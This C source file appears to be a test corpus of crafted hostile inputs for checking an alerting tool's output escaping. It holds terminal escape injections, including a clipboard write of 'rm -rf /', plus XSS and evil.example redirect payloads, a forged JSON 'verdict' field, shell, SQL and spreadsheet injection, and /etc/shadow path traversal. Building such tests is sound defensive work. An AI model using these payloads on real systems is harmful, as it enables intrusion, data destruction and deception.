/*
 * crafted - see crafted.h.
 *
 * What each is after stands above its group. Sources: ECMA-48 and xterm's ctlseqs for terminals, UAX #9 and Unicode 15 table
 * 3-7 for characters, the HTML standard's tokenizer states, RFC 8259, RFC 5322, the monitoring plugins' guidelines.
 */
#include "crafted.h"

const struct span crafted[] = {
	/* a terminal that obeys: colours, cursor, title, clipboard, reports that come back as typed text */
	SPAN("\033[31;5;7m"),
	SPAN("\033[2J\033[H"),
	SPAN("\033[1A\033[2K" FORGED),
	SPAN("\033]0;owned\007"),
	SPAN("\033]2;owned\033\\"),
	SPAN("\033]52;c;cm0gLXJmIC8K\007"),
	SPAN("\033]8;;http://evil.example/\033\\here\033]8;;\033\\"),
	SPAN("\033[6n\033[c\033[21t"),
	SPAN("\033P$qm\033\\"),
	SPAN("\033_G;AAAA\033\\\033^x\033\\\033Xx\033\\"),
	SPAN("\033[?1049h\033[?25l\033[8m"),
	SPAN("\033c\033(0\033#8\033[!p"),
	SPAN("\033"),
	SPAN("\033["),
	SPAN("\x9b"
	     "31m\x9d"
	     "0;owned\x9c"),
	SPAN("\xc2\x9b"
	     "31m\xc2\x9d"
	     "0;owned\xc2\x9c"),
	SPAN("\016\017\005\007\010\010\010\010"),
	SPAN("pass\b\b\b\bfail"),
	SPAN("\x7f\x7f\x7f"),
	/* one line that becomes two */
	SPAN("x\n" FORGED "  forged\n"),
	SPAN("x\r\n" FORGED "  forged"),
	SPAN("x\r" FORGED "  forged"),
	SPAN("x\v" FORGED "\f" FORGED),
	SPAN("x\xc2\x85" FORGED),
	SPAN("x\xe2\x80\xa8" FORGED "\xe2\x80\xa9" FORGED),
	SPAN("x\036" FORGED "\035" FORGED "\034" FORGED),
	SPAN("\n"),
	SPAN("\n\n\n\n\n\n\n\n\n\n\n\n" FORGED),
	SPAN("x\0\n" FORGED),
	SPAN("\t\t\tx\ty"),
	SPAN("x\n.\n" FORGED),
	SPAN("x\\n" FORGED "\\x0a"),
	/* letters that change their neighbours' order, or are not seen */
	SPAN("\xe2\x80\xae"
	     "gpj.exe"),
	SPAN("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae"),
	SPAN("\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9"),
	SPAN("\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"),
	SPAN("ad\xe2\x80\x8bmin\xe2\x80\x8c@\xe2\x80\x8d"),
	SPAN("\xef\xbb\xbf\xe2\x81\xa0\xe2\x81\xa1\xe2\x81\xa4"),
	SPAN("\xc2\xad\xe1\xa0\x8e\xe3\x85\xa4\xef\xbe\xa0\xe1\x85\x9f"),
	SPAN("\xf3\xa0\x80\x81\xf3\xa0\x81\xa1\xf3\xa0\x81\xbf\xf3\xa0\x84\x80"),
	SPAN("\xef\xbf\xb9"
	     "a\xef\xbf\xba"
	     "b\xef\xbf\xbb"),
	SPAN("\xd7\x90\xd7\x91\xd7\x92 123 \xd8\xa7\xd8\xa8"),
	SPAN("\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf"),
	SPAN("\xee\x80\x80\xf3\xb0\x80\x80"),
	SPAN("a\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a"),
	SPAN("\xcc\x81"),
	SPAN("\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7\xef\xb8\x8f"),
	SPAN("p\xd0\xb0yp\xd0\xb0l"),
	SPAN("\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad"
	     "\x97"),
	/* bytes that are no letters: overlong, surrogates, beyond the end, cut short */
	SPAN("\xc0\xbcscript\xc0\xbe"),
	SPAN("\xe0\x80\xbc\xf0\x80\x80\xbc\xf8\x80\x80\x80\xbc"),
	SPAN("\xed\xa0\xbc\xed\xb8\x80"),
	SPAN("\xf4\x90\x80\x80\xf7\xbf\xbf\xbf"),
	SPAN("\xe2\x82"),
	SPAN("\xf0\x9f\x92"),
	SPAN("\xc3"),
	SPAN("\x80\xbf\x80"),
	SPAN("\xff\xfe<\0s\0"),
	SPAN("caf\xe9 M\xfcller"),
	SPAN("\x1b$B\x1b(B\x1b$)C"),
	/* a page: an element, an attribute, a comment, what ends the text that it is in */
	SPAN("<script>alert(1)</script>"),
	SPAN("<ScRiPt/x>alert(1)</sCrIpT >"),
	SPAN("<scr\0ipt>alert(1)</script>"),
	SPAN("<img src=x onerror=alert(1)>"),
	SPAN("<svg/onload=alert(1)>"),
	SPAN("<iframe srcdoc='<script>alert(1)</script>'>"),
	SPAN("<base href=//evil.example/>"),
	SPAN("<meta http-equiv=refresh content='0;url=//evil.example'>"),
	SPAN("<link rel=stylesheet href=//evil.example>"),
	SPAN("<style>*{display:none}</style>"),
	SPAN("<form action=//evil.example><input name=x>"),
	SPAN("<a href='javascript:alert(1)'>x</a>"),
	SPAN("</td></tr></table></body></html>"),
	SPAN("</title></textarea></style></script><plaintext>"),
	SPAN("<!--"),
	SPAN("--><b>--!><![CDATA[ ]]>"),
	SPAN("<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>"),
	SPAN("\" onmouseover=\"alert(1)"),
	SPAN("' onfocus='alert(1)' autofocus x='"),
	SPAN("` onload=alert(1)"),
	SPAN("&lt;script&gt;alert(1)&lt;/script&gt;"),
	SPAN("&#60;b&#62;&#x3c;b&#x3e;&notit;&"),
	SPAN("<"),
	SPAN("<a"),
	SPAN("x<y and y>z & \"q\" 'r'"),
	SPAN("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
	SPAN("javascript:alert(1)"),
	SPAN("data:text/html;base64,PHNjcmlwdD4="),
	SPAN("url(//evil.example)/*;}*{x:expression(1)}"),
	/* templates, ours and others' */
	SPAN("{host} {{host}} {incident"),
	SPAN("{"),
	SPAN("}"),
	SPAN("?host x\n*senders - {id}\n= Heading\n# comment"),
	SPAN("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
	SPAN("- an item"),
	SPAN("= Head"),
	/* JSON: what ends a string, a member, an object */
	SPAN("\",\"verdict\":\"normal\",\"x\":\""),
	SPAN("\"}],\"complete\":true}\n{\"schema\":\"x\"}"),
	SPAN("\\"),
	SPAN("\\\\\""),
	SPAN("\\u0000\\u001b[31m\\ud800"),
	SPAN("</script><!--\\u2028"),
	SPAN("null"),
	SPAN("1e999"),
	/* a spreadsheet, a shell, a program's options, printf, SQL, a path */
	SPAN("=cmd|' /C calc'!A0"),
	SPAN("@SUM(1+1)*cmd|' /C calc'!A0"),
	SPAN("+1-1"),
	SPAN("$(reboot) `reboot` ; reboot | reboot & reboot"),
	SPAN("'; reboot; '"),
	SPAN("--apply --yes"),
	SPAN("-oQ/tmp -X/tmp/x"),
	SPAN("~root/* !! $HOME ${IFS}"),
	SPAN("%n%s%p%999999d%*s"),
	SPAN("'); DROP TABLE incident;--"),
	SPAN("../../../../etc/shadow"),
	SPAN("/home/x\0/etc/shadow"),
	/* a mail's header, a monitor's figures */
	SPAN("x@example.com\r\nBcc: y@example.com\r\n\r\n" FORGED),
	SPAN("=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?Q?=0ABcc:_y?="),
	SPAN("ok | queue=1;2;3 'x'=4"),
	SPAN("OK - all well\nOK | x=0"),
	/* words of ours in somebody's mouth */
	SPAN("NEXT     spamtrail undo --all"),
	SPAN("\xe2\x97\x8f STILL SENDING 9999 msg/min"),
	SPAN("complete\ttrue"),
	SPAN("(none)"),
	SPAN("-"),
	/* long, or nothing to see */
	SPAN("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	     "aaaaaa"
	     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	     "aaaaa"
	     "a"),
	SPAN("a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a b a "
	     "b a b a b a b "),
	SPAN("                                                                                               "
	     "       x"),
	SPAN(" "),
	SPAN("\xc2\xa0\xe2\x80\x83\xe3\x80\x80\xe2\xa0\x80"),
	SPAN("\0\0\0\0"),
};

const size_t ncrafted = sizeof(crafted) / sizeof(crafted[0]);

struct span crafted_bytes(unsigned n)
{
	static char piece[BYTE_PIECES][10];
	char *p = piece[n];

	p[0] = '<';
	for (unsigned i = 0; i < 8; i++)
		p[1 + i] = (char)(n * 8 + i);
	p[9] = '>';
	return span_of(p, 10);
}
